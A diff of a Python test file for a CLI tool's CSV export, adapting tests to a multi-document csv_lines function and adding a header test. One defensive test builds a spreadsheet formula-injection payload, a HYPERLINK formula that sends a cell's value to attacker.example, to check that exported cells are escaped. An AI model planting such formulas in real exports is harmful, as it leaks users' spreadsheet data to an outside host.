@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cli.export import COLUMNS, csv_lines
+from cli.render import CSV_COLUMNS, csv_lines
 
 
 def passage(**more: Any) -> dict[str, Any]:
@@ -35,8 +35,8 @@ def read(lines: str) -> list[dict[str, str]]:
 
 def test_a_row_a_passage() -> None:
     """Every column has its value; what is not told is empty."""
-    [row] = read("".join(csv_lines("report.pdf", [passage()])))
-    assert tuple(row) == COLUMNS
+    [row] = read("".join(csv_lines([("report.pdf", [passage()])])))
+    assert tuple(row) == CSV_COLUMNS
     assert row == {
         "document": "report.pdf",
         "index": "0",
@@ -55,15 +55,24 @@ def test_a_row_a_passage() -> None:
 
 def test_a_language_that_the_model_does_not_know_has_empty_labels() -> None:
     """Nothing is told, and nothing fails."""
-    [row] = read("".join(csv_lines("r", [passage(language="fr", sentiment=None, topics=[], action=None)])))
+    [row] = read(
+        "".join(csv_lines([("r", [passage(language="fr", sentiment=None, topics=[], action=None)])]))
+    )
     assert (row["sentiment"], row["topics"], row["action"]) == ("", "", "")
+
+
+def test_several_documents_have_one_header() -> None:
+    """Also where one has no passages, and where there is no document at all."""
+    rows = read("".join(csv_lines([("none", []), ("a", [passage()]), ("b", [passage(), passage(index=1)])])))
+    assert [(row["document"], row["index"]) for row in rows] == [("a", "0"), ("b", "0"), ("b", "1")]
+    assert "".join(csv_lines([])) == ",".join(CSV_COLUMNS) + "\r\n"
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d"])
 def test_no_cell_is_a_formula(start: str) -> None:
     """Wherever an uploader's words land: text, section, label or file name."""
     harm = f'{start}HYPERLINK("http://attacker.example/?"&A1)'
-    [row] = read("".join(csv_lines(harm, [passage(text=harm, section=harm, label=harm)])))
+    [row] = read("".join(csv_lines([(harm, [passage(text=harm, section=harm, label=harm)])])))
     for column in ("document", "text", "section", "label"):
         assert row[column] == f"'{harm}"
 
@@ -72,5 +81,5 @@ def test_no_cell_is_a_formula(start: str) -> None:
 def test_any_text_comes_back(text: str) -> None:
     """Quotes, delimiters and line ends in a text do not break its row."""
     text = text.replace("\x00", "")
-    [row] = read("".join(csv_lines("r", [passage(text=text)])))
+    [row] = read("".join(csv_lines([("r", [passage(text=text)])])))
     assert row["text"].removeprefix("'") == text.removeprefix("'")
